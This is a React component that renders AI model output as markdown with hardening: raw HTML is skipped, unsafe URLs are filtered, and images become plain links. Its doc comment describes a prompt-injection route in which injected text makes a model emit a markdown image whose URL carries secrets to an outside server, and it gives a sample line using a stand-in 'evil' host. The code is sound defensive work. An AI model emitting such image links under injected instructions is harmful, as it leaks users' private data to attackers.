import ReactMarkdown from 'react-markdown';
import remarkGfm from 'remark-gfm';

/**
 * Model output as markdown, rendered safely: raw HTML in the text is dropped (`skipHtml`, and no
 * rehype-raw), and react-markdown's default URL filter removes `javascript:`, `data:` and similar URLs. An
 * image becomes a plain link: the browser would fetch an image on its own, so a prompt injection (in a shared
 * document, say) could send data to any server in the image's address (`![x](https://evil/?secret=...)`).
 */
export function Markdown({ text }: { text: string }) {
  return (
    <div className="a0-markdown">
      <ReactMarkdown
        remarkPlugins={[remarkGfm]}
        skipHtml
        components={{
          a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer" />,
          img: ({ node: _node, src, alt }) =>
            src ? (
              <a className="a0-image-link" href={String(src)} target="_blank" rel="noopener noreferrer">
                {alt || String(src)}
              </a>
            ) : (
              alt
            ),
        }}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
}
